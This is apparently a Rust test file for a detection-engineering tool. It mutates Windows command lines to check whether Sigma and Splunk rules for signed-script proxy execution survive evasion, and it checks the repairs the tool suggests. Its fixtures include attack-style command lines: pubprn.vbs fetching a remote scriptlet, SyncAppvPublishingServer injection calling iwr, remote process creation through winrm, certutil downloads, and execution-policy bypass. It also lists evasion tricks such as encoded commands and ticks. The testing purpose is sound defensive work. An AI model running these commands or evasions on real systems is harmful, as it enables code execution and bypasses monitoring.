//! Mutations keep what a line means: the program receives the same arguments, but for what a
//! mutation says it changes. And each rule of the pack has mutations that evade it and others that
//! do not, worked out by hand.

use cutout_core::advice::evade::mutation::ALL;
use cutout_core::advice::evade::{Changes, Line, Mutated, Mutation, layers, line::Shell};
use cutout_core::analyze::{OwnRule, Request, RuleChoice, analyze};
use cutout_core::event::Format;
use cutout_core::event::cmdline::split;
use cutout_core::limits;
use cutout_core::report::Verdict;
use cutout_core::report::advice::Evasion;
use cutout_tests::generate::Source;
use cutout_tests::shared;

/// Lines of every kind of program and shell that mutations tell apart.
const LINES: &[&str] = &[
    r"cscript //b C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct",
    r#""C:\Windows\System32\wscript.exe" "C:\Users\a b\pubprn.vbs" 192.0.2.1 "script:https://example.com/A.sct""#,
    r"cscript /nologo .\pubprn.vbs host script:http://example.com/x.sct //T:30",
    "pubprn.vbs 127.0.0.1 script:https://example.com/a.sct",
    r"cscript //nologo C:\Windows\System32\winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine=`calc.exe a b`} -r:http://192.0.2.1:5985 -format:pretty",
    "winrm i c wmicimv2/Win32_Process -remote:http://192.0.2.1 -q",
    r"C:\Temp\cscript.exe C:\Windows\System32\winrm.vbs get winrm/config -format:pretty",
    "winrm quickconfig -q",
    r#"C:\Windows\System32\SyncAppvPublishingServer.vbs "n; Start-Process calc; iex 'ls -r'""#,
    r#"wscript.exe C:\Windows\System32\SyncAppvPublishingServer.vbs "Break; iwr http://192.0.2.1:443""#,
    r"cscript C:\Windows\System32\manage-bde.wsf -status C:",
    r#"powershell.exe -ep bypass -command "set-location -path C:\Windows\diagnostics\system\Audio; import-module .\CL_LoadAssembly.ps1; LoadAssemblyFromPath ..\..\..\..\temp\x.dll;[Program]::Fun('a b')""#,
    r#"powershell -c "ipmo .\UtilityFunctions.ps1; RegSnapin ..\x.dll; [P.C]::Main()""#,
    r"powershell.exe -nop . C:\Windows\diagnostics\system\AERO\CL_Invocation.ps1; SyncInvoke cmd.exe '/c calc'",
    r"powershell -ExecutionPolicy RemoteSigned -File .\Launch-VsDevShell.ps1 -VsWherePath C:\Windows\System32\calc.exe",
    r#"powershell -ep RemoteSigned -f .\Launch-VsDevShell.ps1 -VsInstallationPath "/../../../../../; calc.exe ;" -HostArch amd64"#,
    r"powershell.exe -nologo -windowstyle minimized -file C:\Users\a\AppData\Local\Temp\x.ps1",
    r#"powershell.exe -NoProfile -Command "& { Import-Module Pester; & { Get-Help Pester } }""#,
    r#"C:\Windows\system32\cmd.exe /c "C:\Program Files\WindowsPowerShell\Modules\Pester\3.4.0\bin\Pester.bat" help "; Start-Process calc""#,
    r"cmd /c Pester.bat /help ;calc.exe",
    "Pester.bat ;calc.exe",
    r"cmd /c cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct",
    r#"cmd.exe /d /s /c "cscript //b C:\Windows\x\pubprn.vbs 127.0.0.1 script:http://example.com/a""#,
    r"cmd /c cmd /q /c wscript C:\Windows\System32\manage-bde.wsf",
    r"cmd /c ping -n 5 192.0.2.1 & cscript C:\x\a.vbs",
    "ping -n 5 192.0.2.1",
    "bash -c id",
    r"& 'C:\Program Files\x\Launch-VsDevShell.ps1' -Arch amd64",
    r". C:\Windows\diagnostics\system\AERO\CL_Invocation.ps1; SyncInvoke cmd.exe /c",
    r"C:\test\CustomShellHost.exe",
    "sigverif.exe",
    r#"certutil -urlcache -f http://example.com/é "C:\Users\Ä b\ß.txt" a\"b c"#,
    r"powershell –enc dwBoAG8AYQBtAGkA",
    "cmd",
    "\"\"",
    "   ",
];

/// Own lines, with quotes written as backticks above, and the real ones where they are at hand.
fn lines() -> Vec<String> {
    let mut lines: Vec<String> = LINES.iter().map(|line| line.replace('`', "\"")).collect();
    if let Some(path) = shared::find("cases/t1216_cases.json") {
        let text = std::fs::read_to_string(path).unwrap();
        let cases: Vec<serde_json::Value> = serde_json::from_str(&text).unwrap();
        assert!(cases.len() >= 61);
        let of = cases.iter().filter_map(|case| case["cmd"].as_str());
        lines.extend(of.map(str::to_owned));
    }
    lines
}

/// Each mutation of each line.
fn each(mut check: impl FnMut(&str, &Line<'_>, &Mutation, &Mutated)) {
    for text in lines() {
        let Some(line) = Line::of(&text) else {
            continue;
        };
        for mutation in ALL {
            for mutated in (mutation.apply)(&line) {
                check(&text, &line, mutation, &mutated);
            }
        }
    }
}

/// The arguments that the program receives in the end: those of the last process that cmd.exe
/// starts for a line of `cmd /c`, as the pipeline derives it, else of the line itself.
fn arguments(text: &str) -> Vec<String> {
    let analyzer = analyze(Request {
        text: text.to_owned(),
        format: Some(Format::CommandLines),
        ..Request::default()
    });
    let last = analyzer.events() - 1;
    let line = analyzer
        .batch()
        .text(last, "CommandLine")
        .unwrap_or_default();
    let args = split(&layers::after_cmd(line)).into_iter();
    args.map(|arg| arg.text).collect()
}

#[test]
fn the_program_receives_the_same_arguments() {
    let mut seen = std::collections::BTreeMap::new();
    each(|text, line, mutation, mutated| {
        *seen.entry(mutation.name).or_insert(0) += 1;
        // What PowerShell reads itself is split by no program.
        if line.shell == Shell::Console {
            assert_eq!(mutated.logged, text);
            return;
        }
        let (before, after) = (arguments(text), arguments(&mutated.logged));
        let same = match mutation.changes {
            Changes::Nothing => before == after,
            changes => same(changes, &before, &after),
        };
        assert!(
            same,
            "{}: {:?} of\n{text}\n{}\n{before:?}\n{after:?}",
            mutation.name, mutation.changes, mutated.logged
        );
        if mutation.changes == Changes::Nothing && mutated.logged != text {
            assert_ne!(before, [""; 0], "{text}");
        }
    });
    // A mutation that no line tries is not tested.
    let missing: Vec<&str> = ALL.iter().map(|one| one.name).collect();
    let missing: Vec<&&str> = missing
        .iter()
        .filter(|name| !seen.contains_key(**name))
        .collect();
    assert!(missing.is_empty(), "{missing:?}");
}

#[test]
fn what_cmd_leaves_of_what_is_typed_is_what_is_logged() {
    each(|text, line, mutation, mutated| {
        if line.shell != Shell::Typed {
            return;
        }
        // What is done before the line itself is run.
        let typed = mutated.typed.as_str();
        let typed = match typed.split_once(" & ") {
            Some((before, rest)) if before.starts_with("cd /d ") || before.starts_with("copy ") => {
                rest
            }
            _ => typed,
        };
        assert!(
            layers::after_cmd(typed).eq_ignore_ascii_case(&layers::after_cmd(&mutated.logged)),
            "{} of {text}: {typed}",
            mutation.name
        );
    });
}

/// Whether arguments differ in nothing but what a mutation says it changes.
fn same(changes: Changes, before: &[String], after: &[String]) -> bool {
    let pairs = || before.iter().zip(after);
    let as_many = before.len() == after.len();
    match changes {
        Changes::Nothing => before == after,
        Changes::Case => as_many && pairs().all(|(a, b)| a.eq_ignore_ascii_case(b)),
        Changes::SwitchMarks => {
            let bare = |arg: &str| arg.trim_start_matches(['-', '/', '–', '—', '―']).to_owned();
            as_many && pairs().all(|(a, b)| bare(a) == bare(b))
        }
        Changes::Paths => as_many && pairs().all(|(a, b)| same_paths(a, b)),
        Changes::Abbreviations => {
            let (a, b) = (apart(before), apart(after));
            a.len() == b.len() && a.iter().zip(&b).all(|(a, b)| same_word(a, b))
        }
        Changes::Order => {
            let sorted = |args: &[String]| {
                let mut args = args.to_vec();
                args.sort();
                args
            };
            before[0] == after[0] && sorted(before) == sorted(after)
        }
        Changes::Host => before[0] != after[0] && before[1..] == after[1..],
        Changes::Code => meaning(before) == meaning(after),
    }
}

/// Do the paths in two arguments lead to the same files?
fn same_paths(a: &str, b: &str) -> bool {
    if same_path(&resolved(a), &resolved(b)) {
        return true;
    }
    // An argument with PowerShell code has several.
    let words = |text: &str| -> Vec<Vec<String>> {
        let parts = text.split([' ', ';', '\'', '(', ')']);
        parts.map(resolved).collect()
    };
    let (a, b) = (words(a), words(b));
    a.len() == b.len() && a.iter().zip(&b).all(|(a, b)| same_path(a, b))
}

/// A path's parts as Windows resolves them.
fn resolved(path: &str) -> Vec<String> {
    let path = path
        .strip_prefix(r"\\?\")
        .unwrap_or(path)
        .replace('/', "\\");
    let mut parts: Vec<String> = Vec::new();
    for part in path.split('\\') {
        match part {
            "" | "." => {}
            ".." if parts.last().is_some_and(|last| last != "..") => {
                parts.pop();
            }
            ".." => parts.push("..".to_owned()),
            part => parts.push(part.strip_suffix('.').unwrap_or(part).to_ascii_lowercase()),
        }
    }
    parts
}

fn same_path(a: &[String], b: &[String]) -> bool {
    let is_short = |long: &str, short: &str| {
        short.split_once("~1").is_some_and(|(stem, end)| {
            let kept: String = long
                .chars()
                .filter(|&c| c != ' ')
                .take(stem.len())
                .collect();
            kept == stem
                && long
                    .rsplit_once('.')
                    .is_none_or(|(_, known)| end.is_empty() || end[1..] == *known)
        })
    };
    let same_part =
        |(a, b): (&String, &String)| a == b || is_short(a, b) || a.strip_suffix(".vbs") == Some(b);
    // Only the last part is left where the folder is gone.
    let skipped = a.len().saturating_sub(b.len());
    (skipped == 0 || b.len() == 1) && a[skipped..].iter().zip(b).all(same_part)
}

/// Arguments with what a colon joins taken apart: `-Name:value`, `-r:http`.
fn apart(args: &[String]) -> Vec<String> {
    let parts = args.iter().flat_map(|arg| match arg.split_once(':') {
        Some((name, value)) if arg.starts_with('-') => vec![name.to_owned(), value.to_owned()],
        _ => vec![arg.clone()],
    });
    parts.collect()
}

/// Is one word a beginning of the other, or its known short form?
fn same_word(a: &str, b: &str) -> bool {
    const KNOWN: [(&str, &str); 5] = [
        ("-ep", "-executionpolicy"),
        ("-ep", "-ex"),
        ("qc", "quickconfig"),
        ("-if", "-inputformat"),
        ("-ec", "-encodedcommand"),
    ];
    let (a, b) = (a.to_ascii_lowercase(), b.to_ascii_lowercase());
    a.starts_with(&b) || b.starts_with(&a) || KNOWN.contains(&(&a, &b)) || KNOWN.contains(&(&b, &a))
}

/// PowerShell code without what it may be written differently in.
fn meaning(args: &[String]) -> String {
    let mut args = args.to_vec();
    let encoded = args.iter().position(|arg| arg == "-EncodedCommand");
    if let Some(at) = encoded.filter(|&at| at + 2 == args.len()) {
        let line = format!("powershell -enc {}", args[at + 1]);
        let analyzer = analyze(Request {
            text: line,
            ..Request::default()
        });
        args[at] = "-c".to_owned();
        args[at + 1] = analyzer.detail(0).unwrap().decoded.unwrap();
    }
    let mut text = args.join(" ").to_ascii_lowercase();
    // A name put together from two parts.
    while let Some(start) = text.find(".('") {
        let (left, rest) = text[start + 3..].split_once("'+'").unwrap();
        let (right, rest) = rest.split_once("')").unwrap();
        text = format!("{}{left}{right}{rest}", &text[..start]);
    }
    let text = text
        .replace('`', "")
        .replace(['\u{2018}', '\u{2019}'], "'")
        .replace(['\u{a0}', '\t'], " ");
    let words = text
        .split(' ')
        .filter(|word| !word.is_empty())
        .map(|word| match word {
            "sl" => "set-location",
            "-command" | "/c" => "-c",
            word => word,
        });
    let text: Vec<&str> = words.collect();
    let mut text = text.join(" ");
    for (cmdlet, alias) in [
        ("import-module", "ipmo"),
        ("start-process", "saps"),
        ("invoke-expression", "iex"),
        ("invoke-webrequest", "iwr"),
        ("invoke-restmethod", "irm"),
        ("foreach-object", "foreach"),
        ("get-childitem", "gci"),
        ("get-content", "gc"),
        ("get-item", "gi"),
    ] {
        text = text.replace(cmdlet, alias);
    }
    text
}

/// The matrix of one rule of the pack, for one of the events of a text.
fn matrix(rule: &str, text: &str, event: usize) -> Evasion {
    let analyzer = analyze(Request {
        text: text.to_owned(),
        rules: RuleChoice {
            pack: Some("t1216".to_owned()),
            ..RuleChoice::default()
        },
        ..Request::default()
    });
    let key = format!("pack/{rule}");
    let rules = analyzer.rules();
    let wanted = rules.iter().position(|view| view.key == key).unwrap() as u32;
    let mut evasion = analyzer.evade(event);
    let column = evasion.rules.iter().position(|&rule| rule == wanted);
    let column = column.unwrap_or_else(|| panic!("{rule} does not match {text}"));
    evasion.rules = vec![wanted];
    evasion.scores = vec![evasion.scores[column]];
    for row in &mut evasion.rows {
        row.cells = vec![row.cells.swap_remove(column)];
    }
    evasion
}

/// Mutations (with the variant behind a colon) and whether the rule survives each, or else the
/// value of the predicate that breaks, the first of several.
type Worked = &'static [(&'static str, Result<(), &'static str>)];

#[track_caller]
fn check(rule: &str, text: &str, event: usize, worked: Worked) {
    let evasion = matrix(rule, text, event);
    for (name, wanted) in worked {
        let (mutation, variant) = name.split_once(": ").unwrap_or((name, ""));
        let row = evasion
            .rows
            .iter()
            .find(|row| row.mutation == mutation && row.title.ends_with(variant))
            .unwrap_or_else(|| panic!("{name} does not apply to {text}"));
        assert!(row.reaches_log, "{name}");
        let cell = &row.cells[0];
        let broken = cell.broke.first().map(|broken| &*broken.predicate.value);
        let found = match cell.verdict {
            Verdict::Match => Ok(()),
            _ => Err(broken.unwrap_or("")),
        };
        assert_eq!(found, *wanted, "{rule}, {name}: {}", row.logged);
    }
    let of = evasion.rows.iter().filter(|row| row.reaches_log);
    let survived = of
        .clone()
        .filter(|row| row.cells[0].verdict == Verdict::Match);
    let score = evasion.scores[0];
    assert_eq!(
        (score.survived, score.of),
        (survived.count() as u32, of.count() as u32)
    );
    check_repairs(&evasion, text, event);
    for row in evasion.rows.iter().filter(|row| !row.reaches_log) {
        assert_eq!(row.logged, evasion.line);
        assert_eq!(row.cells[0].verdict, Verdict::Match, "{}", row.mutation);
    }
}

/// Every repair that is offered, as the user would have it: the rule with the new text in place of
/// the old one still matches the event, and the mutated line where nothing else broke.
fn check_repairs(evasion: &Evasion, text: &str, event: usize) {
    let with = |rule: &str, text: &str, event: usize| {
        let analyzer = analyze(Request {
            text: text.to_owned(),
            rules: RuleChoice {
                own: vec![OwnRule {
                    key: "own".to_owned(),
                    text: rule.to_owned(),
                    language: None,
                }],
                ..RuleChoice::default()
            },
            ..Request::default()
        });
        analyzer.verdict(event, 0)
    };
    for row in &evasion.rows {
        let broke = &row.cells[0].broke;
        for repair in broke.iter().filter_map(|broken| broken.repair.as_ref()) {
            let new = &repair.patch.text;
            assert_eq!(with(new, text, event), Some(Verdict::Match), "{new}");
            assert!(repair.patch.after.contains(&(event as u32)));
            assert!(repair.score.survived >= evasion.scores[0].survived, "{new}");
            assert_eq!(repair.score.of, evasion.scores[0].of);
            if broke.len() == 1 && text == evasion.line && row.mutation != "renamed_program" {
                assert_eq!(
                    with(new, &row.logged, 0),
                    Some(Verdict::Match),
                    "{}\n{new}",
                    row.logged
                );
                assert!(repair.score.survived > evasion.scores[0].survived);
            }
            assert!(!repair.patch.added.is_empty());
        }
    }
}

/// The value of each predicate that a mutation breaks, and the title of its repair.
fn repairs(rule: &str, text: &str, mutation: &str) -> Vec<(String, String)> {
    let evasion = matrix(rule, text, 0);
    let (mutation, variant) = mutation.split_once(": ").unwrap_or((mutation, ""));
    let rows = evasion.rows.iter();
    let broke = rows
        .filter(|row| row.mutation == mutation && row.title.ends_with(variant))
        .flat_map(|row| &row.cells[0].broke);
    broke
        .map(|broken| {
            let title = broken.repair.as_ref().map(|repair| repair.title.clone());
            (broken.predicate.value.clone(), title.unwrap_or_default())
        })
        .collect()
}

#[test]
fn the_nearest_repair_is_offered() {
    let pubprn = r"cscript //b C:\x\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct";
    let winrm = r#"cscript C:\x\winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine="calc.exe"} -r:http://192.0.2.1:5985"#;
    let shell = r"powershell -f .\Launch-VsDevShell.ps1 -VsWherePath C:\x\calc.exe";
    for (rule, text, mutation, value, title) in [
        (
            "pubprn.yml",
            pubprn,
            "forward_slashes",
            r"\pubprn.vbs",
            "Take forward slashes, too",
        ),
        (
            "pubprn.yml",
            pubprn,
            "without_folder",
            r"\pubprn.vbs",
            "Drop the folder",
        ),
        (
            "pubprn.yml",
            pubprn,
            "without_extension",
            r"\pubprn.vbs",
            "Drop the extension",
        ),
        (
            "winrm_remote_execution.yml",
            winrm,
            "switch_mark",
            "-r:http",
            "Take every mark in front of the switch (windash)",
        ),
        (
            "winrm_remote_execution.yml",
            winrm,
            "abbreviation: in full",
            "-r:http",
            "Take the switch by its other names",
        ),
        (
            "winrm_remote_execution.yml",
            winrm,
            "abbreviation: short",
            "invoke Create wmicimv2/Win32_",
            "Drop the verbs",
        ),
        (
            "launch_vsdevshell.yml",
            shell,
            "abbreviation: short",
            "VsWherePath ",
            "Take any beginning of the parameter's name",
        ),
        (
            "launch_vsdevshell.yml",
            shell,
            "joined_value",
            "VsWherePath ",
            "Take any beginning of the parameter's name",
        ),
        (
            "launch_vsdevshell.yml",
            shell,
            "short_name",
            "Launch-VsDevShell.ps1",
            "",
        ),
    ] {
        let found = repairs(rule, text, mutation);
        assert_eq!(
            found,
            [(value.to_owned(), title.to_owned())],
            "{rule} {mutation}"
        );
    }
}

#[test]
fn a_repair_is_written_in_the_words_of_sigma() {
    let text = r#"cscript C:\x\winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine="calc.exe"} -r:http://192.0.2.1:5985"#;
    let evasion = matrix("winrm_remote_execution.yml", text, 0);
    let row = evasion
        .rows
        .iter()
        .find(|row| row.mutation == "switch_mark")
        .unwrap();
    let repair = row.cells[0].broke[0].repair.as_ref().unwrap();
    assert!(
        repair
            .patch
            .text
            .contains("CommandLine|windash|contains|all:"),
        "{}",
        repair.patch.text
    );
    let values: Vec<&str> = repair.becomes.iter().map(|one| &*one.value).collect();
    assert_eq!(
        values,
        ["-r:http", "/r:http", "–r:http", "—r:http", "―r:http"]
    );
}

const SURVIVES: Result<(), &str> = Ok(());

#[test]
fn functions_of_diagnostic_scripts() {
    const INVOKE: Result<(), &str> = Err("SyncInvoke ");
    check(
        "cl_invocation.yml",
        r#"powershell.exe -c "ipmo .\CL_Invocation.ps1; SyncInvoke cmd.exe '/c calc'""#,
        0,
        &[
            ("letter_case", SURVIVES),
            ("alias", SURVIVES),
            ("code_blanks: two blanks", SURVIVES),
            ("code_blanks: tabs", INVOKE),
            ("unicode: no-break spaces", INVOKE),
            ("tick", INVOKE),
            ("concatenation", INVOKE),
            ("encoded_command", INVOKE),
        ],
    );
    const LOAD: Result<(), &str> = Err("LoadAssemblyFromPath ");
    check(
        "cl_loadassembly.yml",
        r#"powershell -ep bypass -command "import-module .\CL_LoadAssembly.ps1; LoadAssemblyFromPath ..\x.dll""#,
        0,
        &[
            ("forward_slashes", SURVIVES),
            ("switch_mark: en dash", SURVIVES),
            ("tick", LOAD),
            ("concatenation", LOAD),
            ("encoded_command", LOAD),
        ],
    );
    // Either predicate is enough, so both have to go.
    check(
        "utilityfunctions.yml",
        r#"powershell -c "ipmo .\UtilityFunctions.ps1; RegSnapin ..\x.dll; [P.C]::Main()""#,
        0,
        &[
            ("tick", SURVIVES),
            ("short_name", SURVIVES),
            ("concatenation", SURVIVES),
            ("encoded_command", Err("UtilityFunctions.ps1")),
        ],
    );
}

#[test]
fn the_line_that_mutexverifiers_starts() {
    const SWITCHES: Result<(), &str> = Err(" -nologo -windowstyle minimized -file ");
    check(
        "cl_mutexverifiers.yml",
        r#"{"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell.exe -nologo -windowstyle minimized -file C:\\Users\\a\\AppData\\Local\\Temp\\x.ps1"}"#,
        0,
        &[
            ("letter_case", SURVIVES),
            ("same_folder", SURVIVES),
            ("blanks", SWITCHES),
            ("argument_order", SWITCHES),
            ("abbreviation: short", SWITCHES),
            ("switch_mark: horizontal bar", SWITCHES),
            ("forward_slashes", Err(r"\AppData\Local\Temp\")),
            ("without_folder", Err(r"\AppData\Local\Temp\")),
        ],
    );
}

#[test]
fn what_looks_at_the_parent_alone_survives() {
    for (rule, parent) in [
        (
            "customshellhost.yml",
            r#""ParentImage": "C:\\Windows\\System32\\CustomShellHost.exe""#,
        ),
        (
            "sigverif.yml",
            r#""ParentImage": "C:\\Windows\\System32\\sigverif.exe""#,
        ),
        (
            "pester_child.yml",
            r#""ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "ParentCommandLine": "powershell -c \"C:\\Program Files\\WindowsPowerShell\\Modules\\Pester\\x { Invoke-Pester -EnableExit ; }\"""#,
        ),
    ] {
        let text = format!(
            r#"{{"Image": "C:\\test\\tool.exe", {parent}, "CommandLine": "C:\\test\\tool.exe -run file"}}"#
        );
        check(
            rule,
            &text,
            0,
            &[
                ("letter_case", SURVIVES),
                ("quoted_parts", SURVIVES),
                ("blanks", SURVIVES),
                ("parent_folder", SURVIVES),
                ("verbatim_path", SURVIVES),
            ],
        );
        let score = matrix(rule, &text, 0).scores[0];
        assert_eq!(score.survived, score.of);
    }
}

#[test]
fn the_developer_shell() {
    const PARAMETER: Result<(), &str> = Err("VsWherePath ");
    const SCRIPT: Result<(), &str> = Err("Launch-VsDevShell.ps1");
    check(
        "launch_vsdevshell.yml",
        r"powershell -ep RemoteSigned -f .\Launch-VsDevShell.ps1 -VsWherePath C:\Windows\System32\calc.exe",
        0,
        &[
            ("letter_case", SURVIVES),
            ("blanks", SURVIVES),
            ("switch_mark: em dash", SURVIVES),
            ("without_folder", SURVIVES),
            ("tabs", PARAMETER),
            ("joined_value", PARAMETER),
            ("abbreviation: short", PARAMETER),
            ("short_name", SCRIPT),
            ("quoted_parts", SCRIPT),
        ],
    );
}

#[test]
fn scripts_with_a_host() {
    const NAME: Result<(), &str> = Err("manage-bde.wsf");
    check(
        "manage_bde.yml",
        r#"{"Image": "C:\\Windows\\System32\\wscript.exe", "OriginalFileName": "wscript.exe", "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine": "cmd", "CommandLine": "wscript.exe C:\\Windows\\System32\\manage-bde.wsf -status"}"#,
        0,
        &[
            ("letter_case", SURVIVES),
            ("forward_slashes", SURVIVES),
            ("without_folder", SURVIVES),
            // OriginalFileName, which the rule has beside the image, stays in a copy.
            ("renamed_program", SURVIVES),
            ("host_swap", Err(r"\wscript.exe")),
            ("short_name", NAME),
            ("quoted_parts", NAME),
        ],
    );
    const PUBPRN: Result<(), &str> = Err(r"\pubprn.vbs");
    check(
        "pubprn.yml",
        r"cscript //b C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct",
        0,
        &[
            ("letter_case", SURVIVES),
            ("host_swap", SURVIVES),
            ("short_name", SURVIVES),
            ("argument_order", SURVIVES),
            ("quoted_parts", PUBPRN),
            ("forward_slashes", PUBPRN),
            ("without_folder", PUBPRN),
            ("without_extension", PUBPRN),
        ],
    );
}

#[test]
fn app_v_in_sigma_and_in_splunk() {
    const SIGMA: Result<(), &str> = Err(r"\SyncAppvPublishingServer.vbs");
    check(
        "syncappvpublishingserver.yml",
        r#"C:\Windows\System32\SyncAppvPublishingServer.vbs "n; Start-Process calc""#,
        0,
        &[
            ("letter_case", SURVIVES),
            ("tick", SURVIVES),
            ("alias", SURVIVES),
            ("without_folder", SIGMA),
            ("short_name", SIGMA),
            ("quoted_program", SIGMA),
        ],
    );
    const SPLUNK: Result<(), &str> = Err("syncappvpublishingserver.vbs");
    check(
        "syncappvpublishingserver_splunk.yml",
        r#"wscript.exe C:\Windows\System32\SyncAppvPublishingServer.vbs "n; Start-Process calc""#,
        0,
        &[
            ("forward_slashes", SURVIVES),
            ("without_folder", SURVIVES),
            ("host_swap", SURVIVES),
            ("short_name", SPLUNK),
            ("quoted_parts", SPLUNK),
        ],
    );
}

#[test]
fn winrm_and_its_short_names() {
    check(
        "winrm_awl_bypass.yml",
        r"C:\Temp\cscript.exe C:\Windows\System32\winrm.vbs get winrm/config -format:pretty",
        0,
        &[
            ("blanks", SURVIVES),
            ("switch_mark", SURVIVES),
            // The rule has this spelling, too.
            ("quoted_parts", SURVIVES),
            ("abbreviation: short", Err("format:pretty")),
        ],
    );
    const OPERATION: Result<(), &str> = Err("invoke Create wmicimv2/Win32_");
    const REMOTE: Result<(), &str> = Err("-r:http");
    check(
        "winrm_remote_execution.yml",
        r#"cscript //nologo C:\Windows\System32\winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine="calc.exe"} -r:http://192.0.2.1:5985"#,
        0,
        &[
            ("letter_case", SURVIVES),
            ("argument_order", SURVIVES),
            ("blanks", OPERATION),
            ("quoted_parts", OPERATION),
            ("abbreviation: short", OPERATION),
            ("abbreviation: in full", REMOTE),
            ("switch_mark", REMOTE),
        ],
    );
}

#[test]
fn pester_and_its_help() {
    const HELP: Result<(), &str> = Err("Get-Help");
    check(
        "pester.yml",
        r#"{"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell.exe -NoProfile -Command \"& { Import-Module Pester; & { Get-Help Pester } }\""}"#,
        0,
        &[
            ("letter_case", SURVIVES),
            ("alias", SURVIVES),
            ("code_blanks: tabs", SURVIVES),
            ("tick", HELP),
            ("concatenation", HELP),
            ("encoded_command", Err("Pester")),
            ("renamed_program", Err(r"\powershell.exe")),
        ],
    );
}

#[test]
fn the_other_events_of_a_match_stay() {
    let text = r#"{"@timestamp": "2026-03-01T08:00:00Z", "event": {"category": "process", "type": "start", "action": "start"}, "host": {"os": {"type": "windows"}}, "process": {"name": "PING.EXE", "command_line": "ping -n 5 192.0.2.1", "args": ["ping", "-n", "5", "192.0.2.1"], "parent": {"name": "cmd.exe", "entity_id": "a"}}, "user": {"id": "S-1-5-21-1"}}
{"@timestamp": "2026-03-01T08:00:30Z", "event": {"category": "process", "type": "start", "action": "start"}, "host": {"os": {"type": "windows"}}, "process": {"name": "cscript.exe", "command_line": "cscript.exe C:\\x\\a.vbs", "args": ["cscript.exe", "C:\\x\\a.vbs"], "parent": {"name": "cmd.exe", "entity_id": "a"}}}"#;
    check(
        "delayed_execution_ping.toml",
        text,
        0,
        &[
            ("letter_case", SURVIVES),
            ("blanks", SURVIVES),
            ("quoted_program", SURVIVES),
            ("switch_mark", Err("-n")),
        ],
    );
    check(
        "delayed_execution_ping.toml",
        text,
        1,
        &[
            ("host_swap", SURVIVES),
            ("tabs", SURVIVES),
            ("without_folder", SURVIVES),
        ],
    );
}

#[test]
fn bash_by_its_regular_expression() {
    // Nothing in the search makes this field, so the record has it.
    for (rule, code) in [("bash_winevent.yml", "4688"), ("bash_sysmon.yml", "1")] {
        let text = format!(
            r#"{{"EventCode": "{code}", "process_name": "bash.exe", "process": "bash.exe -c id", "event_count": "1", "_time": "2026-03-01T08:00:00Z", "host": "pc-1"}}"#
        );
        check(
            rule,
            &text,
            0,
            &[
                ("letter_case", SURVIVES),
                ("blanks", SURVIVES),
                ("tabs", SURVIVES),
                ("quoted_program", SURVIVES),
            ],
        );
    }
}

#[test]
fn events_without_a_line_say_so() {
    let evasion = matrix(
        "winrm_awl_bypass_file.yml",
        r#"{"EventID": 11, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": "C:\\x.exe", "TargetFilename": "C:\\Temp\\WsmPty.xsl"}"#,
        0,
    );
    assert_eq!(evasion.rows, []);
    assert!(evasion.note.unwrap().contains("no command line"));
    let none = analyze(Request::default()).evade(7);
    assert_eq!(none.note.as_deref(), Some("There is no such event."));
    let long = format!("cscript {} pubprn.vbs", "x".repeat(limits::MUTATED_LINE));
    assert!(Line::of(&long).is_none());
}

/// Texts made of what parsers trip over: no mutation fails on any, and none is endless.
#[test]
fn any_text_can_be_mutated() {
    const PIECES: &[&str] = &[
        "cmd",
        "/c",
        " ",
        "\t",
        "\"",
        "'",
        "^",
        "%",
        "%windir%",
        "%comspec:~0,1%",
        "\\",
        "\\\\?\\",
        "/",
        "//",
        "-",
        "–",
        "—",
        "―",
        ".",
        "..",
        "C:\\",
        "C:\\Windows\\",
        "cscript",
        "winrm.vbs",
        "pubprn.vbs",
        "powershell",
        "-c",
        "-enc",
        "-file",
        "pester.bat",
        "SyncAppvPublishingServer.vbs",
        ";",
        "&",
        "|",
        "(",
        ")",
        "{",
        "}",
        "[",
        "]",
        "$x",
        "`",
        "ß",
        "漢",
        "\u{feff}",
        "e\u{301}",
        "\0",
        "\n",
        "~1",
        "@{",
        "script:",
        "a",
        "é",
        "-VsWherePath",
        "Launch-VsDevShell.ps1",
        ":",
        ",",
        "+",
        "\\\"",
    ];
    let mut source = Source::new(4);
    for _ in 0..20_000 {
        let length = source.below(14);
        let text: String = (0..length).map(|_| source.pick(PIECES)).collect();
        let Some(line) = Line::of(&text) else {
            continue;
        };
        let mut made = 0;
        for mutation in ALL {
            for mutated in (mutation.apply)(&line) {
                assert!(!mutated.typed.is_empty() && !mutated.logged.is_empty());
                assert_ne!(mutated.typed, text, "{}", mutation.name);
                made += 1;
            }
        }
        assert!(made <= limits::MUTATIONS, "{made} of {text}");
    }
}

#[test]
fn sources_are_addresses_and_names_are_unique() {
    for (at, mutation) in ALL.iter().enumerate() {
        assert!(mutation.source.starts_with("https://"), "{}", mutation.name);
        assert!(mutation.why.ends_with('.'), "{}", mutation.name);
        assert!(ALL[..at].iter().all(|other| other.name != mutation.name));
    }
}
